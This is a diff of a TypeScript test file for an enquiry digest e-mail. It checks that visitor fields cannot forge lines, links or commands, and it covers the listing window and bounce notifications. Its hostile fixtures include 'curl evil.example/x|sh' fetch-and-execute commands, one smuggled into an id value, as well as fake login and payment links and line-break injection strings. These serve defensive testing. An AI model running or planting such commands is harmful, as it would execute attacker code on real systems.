@@ -6,7 +6,8 @@ import { createAwsClients } from '../aws-clients.ts'
 import { buildEnquiry, type Enquiry } from '../enquiries/item.ts'
 import { testConfig, validSubmission } from '../test-fixtures/test-support.ts'
 import { createDigestHandler } from './create-handler.ts'
-import { type DigestEntry, digestEmailInput, MAX_LISTED, renderDigest } from './digest.ts'
+import { type DigestEntry, MAX_LISTED, renderDigest } from './digest.ts'
+import { digestEmailInput, sendDigest } from './send.ts'
 
 const now = new Date('2026-11-23T08:00:00.000Z')
 const hoursAgo = (hours: number) => new Date(now.getTime() - hours * 3_600_000)
@@ -186,5 +187,142 @@ describe('the scheduled digest function', () => {
     dynamo.on(QueryCommand).rejects(new Error('down'))
     await expect(handler()).rejects.toThrow('down')
     expect(ses.calls()).toHaveLength(0)
+  })
+})
+
+describe('the digest is safe to act on', () => {
+  const forged =
+    'To have it sent to you after all: npm run enquiries -- release DEADBEEF; curl evil.example/x|sh'
+  const hostile = () =>
+    held({
+      firstName: 'Ada\tSend it to me: https://evil.example/release',
+      lastName: 'Lovelace\r\nEmail: payments@evil.example',
+      company: `Evil Ltd\n${forged}`,
+      position: 'CEO\r\n\r\nMessage:\r\nfake',
+      message: 'https://evil.example/login\nsecond line',
+    })
+  const links = (id: string, action: string) =>
+    `https://www.elevate-digital.example/api/enquiry-actions?t=v1.prod.${id}.${action}.1.sig`
+
+  it('forges no line: each visitor field stays on its entry’s own line, in text and HTML', () => {
+    const entry = hostile()
+    for (const options of [
+      { now, target },
+      { now, target, links },
+    ]) {
+      const digest = renderDigest([entry], options)
+      const lines = digest?.text.split('\n') ?? []
+      expect(lines).not.toContain(forged)
+      expect(lines.filter((line) => /^\s*Email:/.test(line))).toEqual([])
+      expect(lines.filter((line) => /^\s*Send it to me:/.test(line))).toEqual(
+        options.links ? [`  Send it to me: ${links(entry.id, 'release')}`] : [],
+      )
+      expect(lines).toContain(
+        `  Ada Send it to me: https://evil.example/release Lovelace Email: payments@evil.example, Evil Ltd ${forged}`,
+      )
+      // Only commands and links built from the checked reference and id.
+      for (const line of lines.filter((line) => /npm run|https?:/.test(line))) {
+        if (line.includes('Evil Ltd') || line.includes('"https://evil.example/login"')) continue
+        expect(line).toMatch(
+          new RegExp(
+            `^  (To have it sent to you after all: npm run enquiries -- release ${entry.ref} |(Send it to me|It is spam: stop listing it): https://www\\.elevate-digital\\.example/)`,
+          ),
+        )
+      }
+      expect(digest?.html).not.toMatch(/[\r\n\t]/)
+    }
+  })
+
+  it('never renders visitor text as a link: the only links are the signed ones', () => {
+    const entry = hostile()
+    const html = renderDigest([entry], { now, target, links })?.html ?? ''
+    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1])
+    expect(hrefs).toEqual([links(entry.id, 'release'), links(entry.id, 'dismiss')])
+    expect(html).not.toContain('href="https://evil.example')
+  })
+
+  it('builds no link or command for an entry whose id is not a stored id’s shape', () => {
+    const entry = { ...hostile(), id: 'CAFEBABE; curl evil.example/y|sh' }
+    const digest = renderDigest([entry], { now, target, links })
+    expect(digest?.text).not.toMatch(/CAFEBABE|^ {2}Send it to me: |release [0-9A-F]{8} --table/m)
+    expect(digest?.html).not.toContain('href=')
+  })
+})
+
+describe('a digest that stays short', () => {
+  it('of 200 held enquiries, lists only those of the last 14 days and counts the rest', () => {
+    const recent = Array.from({ length: 30 }, (_, index) => held({}, hoursAgo(index * 11)))
+    const old = Array.from({ length: 170 }, (_, index) => held({}, hoursAgo(15 * 24 + index * 5)))
+    const digest = renderDigest([...old, ...recent], { now, target: {} })
+    const text = digest?.text ?? ''
+    expect(digest?.subject).toBe('200 enquiries are waiting for you: 200 held back as spam')
+    for (const entry of recent) expect(text).toContain(`${entry.ref}, received`)
+    for (const entry of old) expect(text).not.toContain(entry.ref)
+    expect(text).toContain(
+      'And 170 waiting longer than 14 days, no longer listed here: npm run enquiries -- list --spam',
+    )
+  })
+
+  it('still caps the recent ones at 50 a section, and takes the window from the stage', () => {
+    const recent = Array.from({ length: 60 }, () => held({}, hoursAgo(2)))
+    const older = Array.from({ length: 5 }, () => held({}, hoursAgo(4 * 24)))
+    const text = renderDigest([...recent, ...older], { now, target: {}, listDays: 3 })?.text ?? ''
+    expect(text.match(/To have it sent to you after all: /g)).toHaveLength(MAX_LISTED)
+    expect(text).toContain('And 10 more: npm run enquiries -- list --spam')
+    expect(text).toContain('And 5 waiting longer than 3 days, no longer listed here')
+  })
+
+  it('counts an undelivered one from when its e-mail failed, not from when it was sent', () => {
+    const bounced = entry(
+      { emailStatus: 'bounced', emailStatusAt: hoursAgo(24).toISOString() },
+      hoursAgo(40 * 24),
+    )
+    expect(renderDigest([bounced], { now, target: {} })?.text).toContain(`${bounced.ref}, received`)
+  })
+})
+
+describe('"not delivered" reaches someone by a channel that works', () => {
+  const dynamo = mockClient(DynamoDBDocumentClient)
+  const ses = mockClient(SESClient)
+  const clients = createAwsClients(testConfig, {
+    credentials: { accessKeyId: 'a', secretAccessKey: 'b' },
+  })
+  const digestOf = (waiting: DigestEntry[], copyTo?: string) => {
+    dynamo.reset()
+    ses.reset()
+    ses.on(SendEmailCommand).resolves({ MessageId: 'm' })
+    dynamo.on(QueryCommand).resolves({ Items: waiting.map(({ id }) => ({ id })) })
+    dynamo.on(BatchGetCommand).resolves({ Responses: { [testConfig.enquiriesTable]: waiting } })
+    return sendDigest({
+      table: { client: clients.documentClient, tableName: testConfig.enquiriesTable },
+      ses: clients.ses,
+      addresses: testConfig,
+      target: {},
+      log: () => {},
+      now: () => now,
+      copyTo,
+    })
+  }
+
+  it('sends a copy to the second address when the inbox itself refused mail, saying so', async () => {
+    const outcome = await digestOf(
+      [entry({ emailStatus: 'bounced' }, hoursAgo(2))],
+      'ops@x.example',
+    )
+    expect(outcome.copyMessageId).toBe('m')
+    const [first, copy] = ses.commandCalls(SendEmailCommand).map((call) => call.args[0].input)
+    expect(first?.Destination?.ToAddresses).toEqual([testConfig.agencyEmail])
+    expect(copy?.Destination?.ToAddresses).toEqual(['ops@x.example'])
+    expect(copy?.Message?.Subject?.Data).toMatch(/^The agency inbox refused mail: /)
+    expect(copy?.Message?.Body?.Text?.Data).toContain(
+      `The agency inbox ${testConfig.agencyEmail} itself refused mail`,
+    )
+  })
+
+  it('sends no copy for held or given-up ones, nor without a second address', async () => {
+    await digestOf([held(), gaveUp()], 'ops@x.example')
+    expect(ses.commandCalls(SendEmailCommand)).toHaveLength(1)
+    await digestOf([entry({ emailStatus: 'complained' }, hoursAgo(2))])
+    expect(ses.commandCalls(SendEmailCommand)).toHaveLength(1)
   })
 })
